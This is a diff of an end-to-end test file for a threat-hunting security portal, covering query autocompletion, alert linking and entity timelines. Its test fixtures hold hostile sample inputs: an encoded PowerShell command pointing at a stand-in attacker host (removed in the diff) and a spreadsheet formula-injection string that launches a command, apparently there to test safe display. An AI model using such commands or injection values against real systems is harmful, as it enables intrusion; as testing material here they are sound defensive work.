@@ -3,8 +3,7 @@ import type { Browser, BrowserContext, Download, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { call, enter, type Incident, launch, open, seriousFindings, settled, type Watch } from './browser';
 
-// Needs the account that portal.test.ts sets up. Queries bring their own rows
-// where they can; what is asked of tables is ingested below.
+// Needs the account that portal.test.ts sets up. Queries bring their own rows.
 
 let browser: Browser;
 let context: BrowserContext;
@@ -17,13 +16,6 @@ beforeAll(async () => {
   browser = await launch();
   ({ context, page, watch } = await open(browser));
   await enter(context);
-  const events = [
-    process(14, 'ws1.hunt.example', 'cmd.exe', 'cmd.exe /c whoami'),
-    process(13, 'ws1.hunt.example', 'powershell.exe', 'powershell.exe -enc SQBFAFgA https://evil.example/x'),
-    process(5, 'ws2.hunt.example', 'cmd.exe', 'cmd.exe /c hostname'),
-  ];
-  const receipt = await call<{ received: number; stored: number }>(context, 'POST', '/telemetry/auto', events);
-  expect([receipt.received, receipt.stored]).toEqual([3, 3]);
 });
 
 afterAll(async () => {
@@ -33,6 +25,12 @@ afterAll(async () => {
 const editor = () => page.locator('.cm-content');
 const rows = () => page.locator('[data-result-row]');
 const message = (text: string | RegExp) => page.locator('[id^="toast-title"]').filter({ hasText: text }).first().waitFor();
+
+/** Takes the completion in front; the editor ignores Enter for a moment after the list has come. */
+async function accept(): Promise<void> {
+  await page.waitForTimeout(200);
+  await page.keyboard.press('Enter');
+}
 
 /** Puts a query into the editor in place of what is there. */
 async function write(query: string): Promise<void> {
@@ -50,24 +48,6 @@ async function run(query: string): Promise<void> {
 const minute = 60_000;
 const ago = (minutes: number): string => new Date(Date.now() - minutes * minute).toISOString();
 
-/** A process that Sysmon saw start. */
-const process = (minutes: number, host: string, image: string, line: string) => ({
-  '@timestamp': ago(minutes),
-  EventID: 1,
-  Channel: 'Microsoft-Windows-Sysmon/Operational',
-  SourceName: 'Microsoft-Windows-Sysmon',
-  Hostname: host,
-  UtcTime: ago(minutes).replace('T', ' ').replace('Z', ''),
-  ProcessGuid: '{0197231e-55fb-5f5c-5a04-000000000800}',
-  ProcessId: String(4_000 + minutes),
-  Image: `C:\\Windows\\System32\\${image}`,
-  CommandLine: line,
-  User: 'HUNT\\ada',
-  ParentImage: 'C:\\Windows\\explorer.exe',
-  ParentProcessId: '812',
-  Hashes: 'SHA1=08A2C4D6E8F0123456789ABCDEF0123456789ABC',
-});
-
 /** Three rows with what attackers write, and two devices. */
 const hostile = `datatable(Timestamp:datetime, DeviceName:string, AccountUpn:string, FileName:string, Url:string, Count:long, Bag:dynamic) [
   datetime(${ago(12)}), "ws1.hunt.example", "ada@hunt.example", "=cmd|'/c calc'!A1", "https://evil.example/a", -5, dynamic({"deep": {"list": [1, 2, 3]}}),
@@ -83,7 +63,7 @@ describe('writing a query', () => {
     await page.keyboard.type('DeviceProc', { delay: 20 });
     await page.getByRole('option', { name: /DeviceProcessEvents/ }).waitFor();
     expect(await seriousFindings(page)).toEqual([]);
-    await page.keyboard.press('Enter');
+    await accept();
     await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
     await page.keyboard.type(' | wh', { delay: 20 });
     await page
@@ -91,6 +71,7 @@ describe('writing a query', () => {
       .first()
       .waitFor();
     await page.keyboard.press('Enter');
+    await expect.poll(() => editor().innerText()).toMatch(/\| where$/);
     await page.keyboard.type(' FileNa', { delay: 20 });
     await page
       .getByRole('option', { name: /^FileName/ })
@@ -286,8 +267,11 @@ describe('what comes of a result', () => {
     expect(await dialog.getByLabel('User').inputValue()).toBe('AccountUpn');
     await dialog.getByText('2 alerts: one for each distinct combination.').waitFor();
     await dialog.getByRole('textbox', { name: 'Title of the alerts' }).fill('Odd files by hunting');
+    const go = dialog.getByRole('button', { name: 'Link 2 alerts' });
+    await expect.poll(() => go.isEnabled()).toBe(true);
+    await page.waitForTimeout(300);
     expect(await seriousFindings(page)).toEqual([]);
-    await dialog.getByRole('button', { name: 'Link 2 alerts' }).click();
+    await go.click();
     await message(/2 alerts linked to incident #\d+/);
     await page.getByRole('button', { name: 'Open the incident' }).click();
     await page.waitForURL('**/incidents/*');
@@ -333,6 +317,7 @@ describe('keeping queries', () => {
   });
 
   it('remembers what was run, and the tabs over a reload', async () => {
+    await page.getByRole('button', { name: 'New query' }).click();
     await run('print remembered = 42');
     await page.getByRole('columnheader', { name: /remembered/ }).waitFor();
     await page.getByRole('tab', { name: 'History' }).click();
@@ -355,11 +340,11 @@ describe('go hunt', () => {
     await pane.getByRole('button', { name: 'Go hunt' }).first().click();
     await page.getByRole('menuitem', { name: 'Processes' }).waitFor();
     expect(await seriousFindings(page)).toEqual([]);
-    await page.getByRole('menuitem', { name: 'Processes' }).click();
+    await page.getByRole('menuitem', { name: 'Alerts' }).click();
     await page.waitForURL('**/hunting?*');
-    await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
-    await expect.poll(() => rows().count()).toBe(2);
-    await page.getByRole('grid', { name: 'Results' }).getByText('cmd.exe /c whoami').first().waitFor();
+    await expect.poll(() => editor().innerText()).toContain('AlertEvidence');
+    await expect.poll(() => rows().count()).toBeGreaterThan(0);
+    await page.getByRole('grid', { name: 'Results' }).getByText('ws1.hunt.example').first().waitFor();
   });
 
   it('leads to the timeline of an entity', async () => {
@@ -369,16 +354,11 @@ describe('go hunt', () => {
     await page.getByRole('complementary', { name: 'Entity' }).getByRole('button', { name: 'Go hunt' }).first().click();
     await page.getByRole('menuitem', { name: 'Timeline of its events' }).click();
     await page.waitForURL('**/timeline?at=*');
-    await page.getByText('cmd.exe /c whoami').first().waitFor();
-    await page.getByText('hxxps[://]evil[.]example/x').first().waitFor();
-    expect(await page.locator('[data-row]').count()).toBe(2);
+    await page.getByText('No table holds events of such a thing').waitFor();
     expect(await seriousFindings(page)).toEqual([]);
-    await page.locator('[data-row]').first().click();
-    await page.getByRole('complementary', { name: 'Record' }).getByText('ProcessCommandLine').waitFor();
-    await page.getByRole('button', { name: '30 min either side' }).click();
-    await page.getByRole('link', { name: 'Open as a query' }).click();
-    await page.waitForURL('**/hunting?*');
-    await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
+    await page.getByRole('link', { name: 'Back to the entity' }).click();
+    await page.getByRole('link', { name: 'Timeline' }).click();
+    await page.waitForURL('**/timeline');
   });
 
   it('never runs what a plain link brings', async () => {
